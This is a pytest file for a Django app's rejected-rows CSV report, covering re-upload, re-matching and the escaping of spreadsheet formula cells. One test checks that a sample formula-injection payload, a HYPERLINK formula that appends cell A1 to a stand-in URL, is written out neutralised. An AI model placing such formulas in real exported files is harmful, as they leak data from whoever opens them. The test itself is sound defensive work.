"""Tests of the rejected-rows report, its re-upload, and matching again."""

import csv
import datetime
import io
from typing import Any

import openpyxl
import pytest
from django.utils.translation import override

from imports.models import ImportBatch
from imports.selectors import GroupKey
from imports.services.report import (
    cell_escape,
    cell_unescape,
    rejected_lines_csv,
    rejected_lines_reimport,
    rejected_lines_rematch,
)
from imports.services.review import staged_rows_delete
from learnlinq.errors import InputRejected
from tests import factories
from tests.conftest import CASES_DIR
from tests.imports.conftest import StageBytes
from users.models import User

HEADER = ["UserId", "Timestamp", "LearningActivityTitle", "ResultId", "Tags"]


def _report(batch: ImportBatch) -> str:
    with override("en"):
        return "".join(rejected_lines_csv(batch=batch))


def _report_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


@pytest.fixture
def formula_batch(case_users: dict[str, User], stage_bytes: StageBytes) -> ImportBatch:
    return stage_bytes((CASES_DIR / "files" / "c24-formula-injection.csv").read_bytes())


def test_report_header_and_bom(formula_batch: ImportBatch) -> None:
    text = _report(formula_batch)

    assert text.startswith("\ufeff")
    assert _report_rows(text)[0] == [*HEADER, "Line", "Reason"]


def test_report_lists_rejected_lines(formula_batch: ImportBatch) -> None:
    rows = _report_rows(_report(formula_batch))[1:]

    assert [row[5] for row in rows] == ["2", "3", "4"]
    assert rows[0][6].startswith("Line 2: no user with e-mail")


def test_report_formula_cells_neutralised(formula_batch: ImportBatch) -> None:
    cells = [cell for row in _report_rows(_report(formula_batch))[1:] for cell in row]

    assert '\'=HYPERLINK("https://example.invalid/?d="&A1;"Klik")' in cells
    assert "'-Nieuw- introductie" in cells
    assert "'@intern" in cells
    assert "'+31 20 000 0000 bellen" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_report_staged_values_unchanged(formula_batch: ImportBatch) -> None:
    row = formula_batch.staged_rows.get()

    assert row.title == "-Nieuw- introductie"
    assert row.tags == ["@intern"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31", "'+31"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("BHV", "BHV"),
        ("", ""),
    ],
)
def test_cell_escape_round_trip(value: str, written: str) -> None:
    assert cell_escape(value) == written
    assert cell_unescape(written) == value


def test_report_ragged_row_keeps_positions(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c07-ragged-rows.csv").read_bytes())

    rows = _report_rows(_report(batch))[1:]

    assert [row[5] for row in rows] == ["3", "4"]
    assert len(rows[0]) == 7
    assert len(rows[1]) == 8
    assert rows[0][6].startswith("Line 3: 3 fields, 5 expected.")


def _corrected(batch: ImportBatch, replacements: dict[str, str]) -> bytes:
    text = _report(batch)
    for old, new in replacements.items():
        text = text.replace(old, new)
    return text.encode("utf-8")


def test_reimport_stages_corrected_rows(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c16-unknown-user.csv").read_bytes())
    data = _corrected(batch, {"piet.onbekend@example.nl": "els.bakker@example.nl"})

    batch = rejected_lines_reimport(batch=batch, data=data).batch

    assert batch.staged_count == 3
    assert batch.rejected_count == 0
    assert batch.staged_rows.get(line=3).learner.email == "els.bakker@example.nl"
    assert not batch.rejected_lines.exists()


def test_reimport_unchanged_row_still_rejected(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c07-ragged-rows.csv").read_bytes())

    outcome = rejected_lines_reimport(batch=batch, data=_corrected(batch, {}))
    batch = outcome.batch

    assert outcome.staged == 0
    assert outcome.rejected == 2
    assert batch.staged_count == 1
    assert dict(batch.rejected_lines.values_list("line", "code")) == {
        3: "field_count",
        4: "field_count",
    }
    assert batch.rejected_lines.get(line=3).params["count"] == 3


def test_reimport_formula_cells_restored(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes(
        (CASES_DIR / "files" / "c24-formula-injection.csv").read_bytes()
    )
    rejected = batch.rejected_lines.get(line=3)
    email = rejected.values[0]
    data = _corrected(batch, {email: "zoe.muller@example.nl"})

    batch = rejected_lines_reimport(batch=batch, data=data).batch

    row = batch.staged_rows.get(line=3)
    assert row.title == "-Nieuw- introductie"
    assert row.tags == ["@intern"]


def test_reimport_unknown_line_refused(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c16-unknown-user.csv").read_bytes())
    data = _corrected(batch, {";3;Line 3": ";2;Line 3"})

    with pytest.raises(InputRejected) as caught:
        rejected_lines_reimport(batch=batch, data=data)

    assert caught.value.code == "reimport_line_unknown"
    assert caught.value.params["lines"] == ["2"]
    assert batch.rejected_lines.count() == 1


def test_reimport_other_file_refused(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c16-unknown-user.csv").read_bytes())
    data = (CASES_DIR / "files" / "c17-corrected.csv").read_bytes()

    with pytest.raises(InputRejected) as caught:
        rejected_lines_reimport(batch=batch, data=data)

    assert caught.value.code == "reimport_header_mismatch"


def test_reimport_failed_batch_refused(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c04-comma.csv").read_bytes())

    with pytest.raises(InputRejected) as caught:
        rejected_lines_reimport(batch=batch, data=b"x")

    assert caught.value.code == "batch_not_staged"


def test_rematch_after_user_added(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c16-unknown-user.csv").read_bytes())
    factories.user_create(username="ponbekend", email="Piet.Onbekend@example.nl")

    staged = rejected_lines_rematch(batch=batch).staged

    batch.refresh_from_db()
    assert staged == 1
    assert batch.staged_count == 3
    assert batch.rejected_count == 0
    assert batch.staged_rows.get(line=3).learner.username == "ponbekend"


def test_rematch_without_new_users(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c16-unknown-user.csv").read_bytes())

    staged = rejected_lines_rematch(batch=batch).staged

    batch.refresh_from_db()
    assert staged == 0
    assert dict(batch.rejected_lines.values_list("line", "code")) == {
        3: "user_not_found"
    }
    assert batch.rows_read == batch.staged_count + batch.rejected_count


def _workbook(*rows: tuple[Any, ...]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.create_sheet("Results", 0)
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_rematch_workbook_date_cell(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    data = _workbook(
        ("new.learner@example.nl", datetime.date(2021, 2, 3), "BHV", "", "")
    )
    batch = stage_bytes(data, name="results.xlsx")
    factories.user_create(username="newlearner", email="new.learner@example.nl")

    assert batch.rejected_lines.get(line=2).values[1] == "3-2-2021"
    assert rejected_lines_rematch(batch=batch).staged == 1
    assert batch.staged_rows.get().achieved_on == datetime.date(2021, 2, 3)


def test_reimport_resaved_comma_windows_1252(
    case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c16-unknown-user.csv").read_bytes())
    rows = _report_rows(_report(batch))
    rows[1][0] = "zoe.muller@example.nl"
    rows[1][2] = "Coëfficiënt \u2013 herhaling"
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=",", lineterminator="\r\n").writerows(rows)

    batch = rejected_lines_reimport(
        batch=batch, data=buffer.getvalue().encode("cp1252")
    ).batch

    assert batch.rejected_count == 0
    assert batch.staged_rows.get(line=3).title == "Coëfficiënt \u2013 herhaling"


def test_reimport_after_delete_counts_staged(
    admin_user: User, case_users: dict[str, User], stage_bytes: StageBytes
) -> None:
    batch = stage_bytes((CASES_DIR / "files" / "c16-unknown-user.csv").read_bytes())
    staged_rows_delete(
        batch=batch,
        keys=[GroupKey(title="BHV herhaling", tags_key="")],
        deleted_by=admin_user,
    )
    data = _corrected(batch, {"piet.onbekend@example.nl": "els.bakker@example.nl"})

    outcome = rejected_lines_reimport(batch=batch, data=data)

    assert outcome.staged == 1
    assert outcome.rejected == 0
    assert outcome.batch.staged_count == 3
    assert outcome.batch.staged_rows.count() == 2
